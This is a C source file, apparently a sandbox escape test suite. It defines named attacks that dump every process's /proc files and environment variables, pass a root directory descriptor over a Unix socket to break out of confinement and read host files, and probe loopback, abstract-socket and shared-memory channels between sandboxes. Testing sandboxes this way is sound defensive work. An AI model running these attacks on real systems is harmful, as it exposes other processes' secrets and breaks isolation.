// SPDX-License-Identifier: Apache-2.0
// Attacks on secrets and on other people's sockets: prints whatever of the host can be seen.
#include <arpa/inet.h>
#include <dirent.h>
#include <sys/auxv.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/utsname.h>

#include "attack.h"

static void Cat(const char* path) {
  const int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return;
  printf("== %s\n", path);
  fflush(stdout);
  ssize_t got;
  for (int i = 0; i < 16 && (got = read(fd, scratch, sizeof(scratch))) > 0; ++i) {
    if (write(1, scratch, (size_t)got) != got) break;
  }
  puts("");
  close(fd);
}

// Every file of every process, and what the processes are.
static void CatProcesses(void) {
  static const char* const kFiles[] = {"cmdline", "environ",    "maps",   "mountinfo",
                                       "status",  "cgroup",     "comm",   "stack",
                                       "wchan",   "mountstats", "limits", "net/unix"};
  static const char* const kLinks[] = {"exe", "cwd", "root", "ns/mnt", "fd/0", "fd/3"};
  DIR* processes = opendir("/proc");
  if (processes == NULL) return;
  struct dirent* entry;
  int left = 200;
  while ((entry = readdir(processes)) != NULL && left > 0) {
    if (entry->d_name[0] < '0' || entry->d_name[0] > '9') continue;
    --left;
    printf("== process %s\n", entry->d_name);
    char path[512];
    for (size_t i = 0; i < sizeof(kFiles) / sizeof(kFiles[0]); ++i) {
      snprintf(path, sizeof(path), "/proc/%s/%s", entry->d_name, kFiles[i]);
      Cat(path);
    }
    for (size_t i = 0; i < sizeof(kLinks) / sizeof(kLinks[0]); ++i) {
      snprintf(path, sizeof(path), "/proc/%s/%s", entry->d_name, kLinks[i]);
      const ssize_t size = readlink(path, scratch, sizeof(scratch) - 1);
      if (size < 0) continue;
      scratch[size] = 0;
      printf("== %s -> %s\n", path, scratch);
    }
  }
  closedir(processes);
}

static int Look(int argc, char** argv) {
  for (int i = 1; i < argc; ++i) Cat(argv[i]);
  CatProcesses();
  for (char** variable = environ; *variable != NULL; ++variable) puts(*variable);
  struct utsname name;
  uname(&name);
  printf("nodename %s\n", name.nodename);
  printf("program %s\n", (const char*)getauxval(AT_EXECFN));
  return 0;
}

// give-root PATH: gives whoever comes to the socket PATH a descriptor of what is its root.
static int GiveRoot(int argc, char** argv) {
  if (argc < 2) return 98;
  struct sockaddr_un name = {.sun_family = AF_UNIX};
  strncpy(name.sun_path, argv[1], sizeof(name.sun_path) - 1);
  const int listener = socket(AF_UNIX, SOCK_STREAM, 0);
  if (bind(listener, (struct sockaddr*)&name, sizeof(name)) != 0) return 3;
  chmod(argv[1], 0666);
  listen(listener, 1);
  Say("ready", 0);
  const int peer = accept(listener, NULL, NULL);
  const int root = open("/", O_PATH | O_DIRECTORY | O_CLOEXEC);
  char control[CMSG_SPACE(sizeof(int))] = {0};
  struct iovec bytes = {scratch, 1};
  struct msghdr message = {.msg_iov = &bytes,
                           .msg_iovlen = 1,
                           .msg_control = control,
                           .msg_controllen = sizeof(control)};
  struct cmsghdr* header = CMSG_FIRSTHDR(&message);
  header->cmsg_level = SOL_SOCKET;
  header->cmsg_type = SCM_RIGHTS;
  header->cmsg_len = CMSG_LEN(sizeof(int));
  memcpy(CMSG_DATA(header), &root, sizeof(root));
  Say("gave", sendmsg(peer, &message, 0));
  Nap(60000);
  return 0;
}

// take-root PATH FILE...: goes where that descriptor leads, up from there, and reads.
static int TakeRoot(int argc, char** argv) {
  if (argc < 2) return 98;
  struct sockaddr_un name = {.sun_family = AF_UNIX};
  strncpy(name.sun_path, argv[1], sizeof(name.sun_path) - 1);
  const int peer = socket(AF_UNIX, SOCK_STREAM, 0);
  Say("met", connect(peer, (struct sockaddr*)&name, sizeof(name)));
  char control[CMSG_SPACE(sizeof(int))] = {0};
  struct iovec bytes = {scratch, 1};
  struct msghdr message = {.msg_iov = &bytes,
                           .msg_iovlen = 1,
                           .msg_control = control,
                           .msg_controllen = sizeof(control)};
  recvmsg(peer, &message, 0);
  int root = -1;
  if (CMSG_FIRSTHDR(&message) != NULL) {
    memcpy(&root, CMSG_DATA(CMSG_FIRSTHDR(&message)), sizeof(root));
  }
  Say("took", root);
  Say("went", fchdir(root));
  for (int i = 0; i < 20; ++i) (void)!chdir("..");
  for (int i = 2; i < argc; ++i) Cat(argv[i] + 1);
  return 0;
}

static int Status(int argc, char** argv) {
  (void)argc;
  (void)argv;
  Cat("/proc/self/status");
  return 0;
}

// An exec is where the kernel gives a root its capabilities.
static int ExecStatus(int argc, char** argv) {
  (void)argc;
  (void)argv;
  execl("/proc/self/exe", "attack", "status", NULL);
  return 4;
}

// Tries to reach listeners of the host: TCP and UDP on loopback, an abstract and a named socket.
static int Connect(int argc, char** argv) {
  if (argc < 4) return 98;
  struct sockaddr_in host = {0};
  host.sin_family = AF_INET;
  host.sin_port = htons((uint16_t)atoi(argv[1]));
  host.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
  Say("tcp", fd < 0 ? -1 : connect(fd, (struct sockaddr*)&host, sizeof(host)));
  fd = socket(AF_INET, SOCK_DGRAM, 0);
  Say("udp", fd < 0 ? -1 : sendto(fd, "reached", 7, 0, (struct sockaddr*)&host, sizeof(host)));
  struct sockaddr_un name = {0};
  name.sun_family = AF_UNIX;
  strncpy(name.sun_path + 1, argv[2], sizeof(name.sun_path) - 2);
  fd = socket(AF_UNIX, SOCK_STREAM, 0);
  const socklen_t length = (socklen_t)(sizeof(sa_family_t) + 1 + strlen(argv[2]));
  Say("abstract", fd < 0 ? -1 : connect(fd, (struct sockaddr*)&name, length));
  memset(&name, 0, sizeof(name));
  name.sun_family = AF_UNIX;
  strncpy(name.sun_path, argv[3], sizeof(name.sun_path) - 1);
  fd = socket(AF_UNIX, SOCK_STREAM, 0);
  Say("named", fd < 0 ? -1 : connect(fd, (struct sockaddr*)&name, sizeof(name)));
  return 0;
}

// Listens where another sandbox would look, and looks where another one would listen.
static int Meet(int argc, char** argv) {
  if (argc < 2) return 98;
  struct sockaddr_un name = {0};
  name.sun_family = AF_UNIX;
  strncpy(name.sun_path + 1, argv[1], sizeof(name.sun_path) - 2);
  const socklen_t length = (socklen_t)(sizeof(sa_family_t) + 1 + strlen(argv[1]));
  int fd = socket(AF_UNIX, SOCK_STREAM, 0);
  Say("other", fd < 0 ? -1 : connect(fd, (struct sockaddr*)&name, length));
  fd = socket(AF_UNIX, SOCK_STREAM, 0);
  if (fd >= 0 && bind(fd, (struct sockaddr*)&name, length) == 0) listen(fd, 1);
  const int key = (int)syscall(SYS_shmget, 0x434f5244, 4096, 0600);
  Say("shm", key);
  syscall(SYS_shmget, 0x434f5244, 4096, 01600);
  Say("ready", 0);
  Nap(argc > 2 ? atol(argv[2]) : 0);
  return 0;
}

const struct Attack kInfoAttacks[] = {
    {"look", Look},
    {"connect", Connect},
    {"meet", Meet},
    {"give-root", GiveRoot},
    {"take-root", TakeRoot},
    {"status", Status},
    {"exec-status", ExecStatus},
    {NULL, NULL},
};
